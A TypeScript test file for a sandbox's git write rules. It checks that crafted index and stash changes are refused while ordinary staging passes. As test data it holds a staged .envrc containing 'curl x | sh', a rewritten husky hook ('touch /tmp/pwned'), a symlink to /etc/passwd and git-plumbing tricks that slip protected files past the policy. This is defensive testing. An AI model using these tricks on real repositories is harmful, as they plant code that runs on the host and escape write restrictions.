/**
 * The index rules and the stash's parents on real repositories. Each attack is made on a copy
 * of the repository without eitri first, and the person's next git command there writes the
 * protected file (the control); then the same change is judged, what is accepted is applied to
 * another copy, and the same git command there writes nothing protected. Ordinary staging is
 * judged the same way and must come through, as git shows it.
 */
import assert from 'node:assert/strict'
import fs from 'node:fs'
import path from 'node:path'
import { after, before, describe, it } from 'node:test'
import {
  copyRepository,
  gitOk,
  gitSetup,
  makeHistoryRepository,
  repositoryChanges,
  type HistoryFixture,
} from '../../../test/helpers/git-repository.ts'
import { DirectoryTree } from '../../workspace/directory-tree.ts'
import { parseIndex } from '../../workspace/git/index-file.ts'
import { judgeHistory, type HistoryJudgement, type MayWrite } from './history-rules.ts'
import { MAX_CHANGED_ENTRIES } from './index-rules.ts'
import { treeHistoryHost } from './tree-history-host.ts'

let fixture: HistoryFixture
let copies = 0

before(() => {
  fixture = makeHistoryRepository()
  // The host tracks a hook the policy protects: staging around it must still work.
  gitSetup(
    fixture.folder,
    'mkdir -p .husky && echo "exit 0" > .husky/pre-commit && git add .husky && git commit -q -m hooks',
  )
})
after(() => {
  fs.rmSync(path.dirname(fixture.folder), { recursive: true, force: true })
})

/** The write policy's stand-in: `.envrc` and what is below `.husky` may not be written. */
const mayWrite: MayWrite = async (where, change) =>
  /(?:^|\/)(?:\.envrc$|\.husky\/)/.test(where)
    ? 'Refused: it is protected.'
    : change.target?.startsWith('/') === true
      ? 'it leads outside'
      : undefined

/** The attack on a copy, judged; what is accepted applied to another copy. */
async function attack(script: string): Promise<{
  control: string
  judgement: HistoryJudgement
  result: string
}> {
  const control = copyRepository(fixture.folder, `control-${++copies}`)
  gitSetup(control, script)
  const { changes, proposal } = repositoryChanges(fixture.folder, control)
  const judgement = await judgeHistory(
    changes,
    treeHistoryHost(new DirectoryTree(fixture.folder)),
    proposal,
    { mayWrite },
  )
  const result = copyRepository(fixture.folder, `applied-${copies}`)
  for (const change of changes) {
    if (judgement.refused.has(change.path) || judgement.unchanged.has(change.path)) continue
    const target = path.join(result, change.path)
    if (change.type === 'directory') fs.mkdirSync(target, { recursive: true })
    if (change.type === 'delete') fs.rmSync(target, { recursive: true, force: true })
  }
  for (const change of changes) {
    if (change.type !== 'file' || judgement.refused.has(change.path)) continue
    if (judgement.unchanged.has(change.path) || judgement.dropped.has(change.path)) continue
    const bytes = judgement.contents.get(change.path)
    assert.ok(bytes !== undefined, `no judged bytes for ${change.path}`)
    fs.mkdirSync(path.dirname(path.join(result, change.path)), { recursive: true })
    fs.writeFileSync(path.join(result, change.path), bytes)
  }
  return { control, judgement, result }
}

/** Stages `.envrc` without a file (as in a jail where it is read-only). */
const STAGE_ENVRC =
  'blob=$(echo "curl x | sh" | git hash-object -w --stdin) && git update-index --add --cacheinfo "100644,$blob,.envrc"'

describe('index rules: an index may not stage what a command may not write', () => {
  it('refuses an index staging .envrc: git checkout . writes it in the control, not after the jail', async () => {
    const { control, judgement, result } = await attack(STAGE_ENVRC)
    gitSetup(control, 'git checkout .')
    assert.equal(fs.readFileSync(path.join(control, '.envrc'), 'utf8'), 'curl x | sh\n')
    assert.match(
      judgement.refused.get('.git/index') ?? '',
      /^\.git\/index was not written back: it stages \.envrc, which `git checkout \.`, `git restore \.` or `git stash` on the host would then write, and a command may not write \.envrc \(it is protected\)/,
    )
    // The objects come back (harmless by themselves); the index is the host's.
    gitSetup(result, 'git checkout . && git checkout-index -a')
    assert.equal(fs.existsSync(path.join(result, '.envrc')), false)
    assert.equal(gitOk(result, ['status', '--porcelain']), '')
  })

  it('refuses a changed hook, a removed hook, and a link out of the workspace', async () => {
    const hook = await attack(
      'echo "touch /tmp/pwned" > .husky/pre-commit && git add .husky/pre-commit && git checkout -- .husky/pre-commit 2>/dev/null; true',
    )
    assert.match(hook.judgement.refused.get('.git/index') ?? '', /stages \.husky\/pre-commit/)
    const removed = await attack('git rm -q --cached .husky/pre-commit')
    assert.match(
      removed.judgement.refused.get('.git/index') ?? '',
      /unstages \.husky\/pre-commit \(the next commit would delete it\), which a command may not remove/,
    )
    const link = await attack(
      'blob=$(printf /etc/passwd | git hash-object -w --stdin) && git update-index --add --cacheinfo "120000,$blob,passwd"',
    )
    assert.match(
      link.judgement.refused.get('.git/index') ?? '',
      /stages passwd.*a link to \/etc\/passwd/,
    )
  })

  it('lets ordinary staging through, drops the extensions, and git shows it staged', async () => {
    const { judgement, result } = await attack(
      'echo c > c.txt && git add c.txt && git -c core.untrackedCache=true status -uall >/dev/null && git write-tree >/dev/null',
    )
    assert.equal(judgement.refused.size, 0, [...judgement.refused.values()].join('\n'))
    const written = judgement.contents.get('.git/index')
    assert.ok(written !== undefined)
    const parsed = parseIndex(written, 'sha1', 100)
    assert.ok(parsed.ok)
    assert.deepEqual(parsed.extensions, [])
    fs.writeFileSync(path.join(result, 'c.txt'), 'c\n')
    assert.equal(gitOk(result, ['status', '--porcelain']), 'A  c.txt')
    assert.equal(gitOk(result, ['diff', '--cached', '--name-only']), 'c.txt')
  })

  it('refuses a split index and an index git cannot read, saying why', async () => {
    const split = await attack('git update-index --split-index')
    assert.match(split.judgement.refused.get('.git/index') ?? '', /split index.*core\.splitIndex/)
    const broken = await attack('printf "DIRC\\0\\0\\0\\2junk" >> .git/index')
    assert.match(broken.judgement.refused.get('.git/index') ?? '', /cannot be judged as an index/)
  })

  it('refuses an index that changes more entries than are judged at once', async () => {
    const many = MAX_CHANGED_ENTRIES + 1
    const { judgement } = await attack(
      `blob=$(git hash-object -w a.txt) && seq 1 ${many} | sed "s|^|100644 $blob\\tmany/|" | git update-index --index-info`,
    )
    assert.match(
      judgement.refused.get('.git/index') ?? '',
      new RegExp(`it changes ${many} entries, more than the ${MAX_CHANGED_ENTRIES} judged at once`),
    )
  })
})

describe('stash rules: git stash pop writes the stash’s index and untracked files too', () => {
  /** A stash whose untracked-files parent holds `.envrc`, made with plumbing (no file needed). */
  const STASH_ENVRC = [
    'blob=$(echo "curl x | sh" | git hash-object -w --stdin)',
    'u=$(git commit-tree $(printf "100644 blob $blob\\t.envrc\\n" | git mktree) -m "untracked files on main")',
    'i=$(git commit-tree $(git write-tree) -p HEAD -m "index on main")',
    'w=$(git commit-tree $(git write-tree) -p HEAD -p $i -p $u -m "WIP on main")',
    'git stash store -m "WIP on main" $w',
  ].join(' && ')

  it('refuses a stash whose untracked files hold .envrc: git stash pop writes it in the control', async () => {
    const { control, judgement, result } = await attack(STASH_ENVRC)
    gitSetup(control, 'git stash pop -q')
    assert.equal(fs.readFileSync(path.join(control, '.envrc'), 'utf8'), 'curl x | sh\n')
    assert.match(
      judgement.refused.get('.git/refs/stash') ?? '',
      /refs\/stash would lead to the stash [0-9a-f]{40}, and popping it writes \.envrc from its untracked files \(its third parent\)/,
    )
    assert.match(judgement.refused.get('.git/logs/refs/stash') ?? '', /popping it writes \.envrc/)
    gitSetup(result, 'git stash pop -q 2>/dev/null; true')
    assert.equal(fs.existsSync(path.join(result, '.envrc')), false)
  })

  it('lets an ordinary stash with untracked files through, and it pops', async () => {
    const { judgement, result } = await attack(
      'echo more >> a.txt && echo n > notes.txt && git -c user.name=a -c user.email=a@b stash -u -q',
    )
    assert.equal(judgement.refused.size, 0, [...judgement.refused.values()].join('\n'))
    gitSetup(result, 'git checkout -q . && git stash pop -q')
    assert.equal(fs.readFileSync(path.join(result, 'notes.txt'), 'utf8'), 'n\n')
  })
})
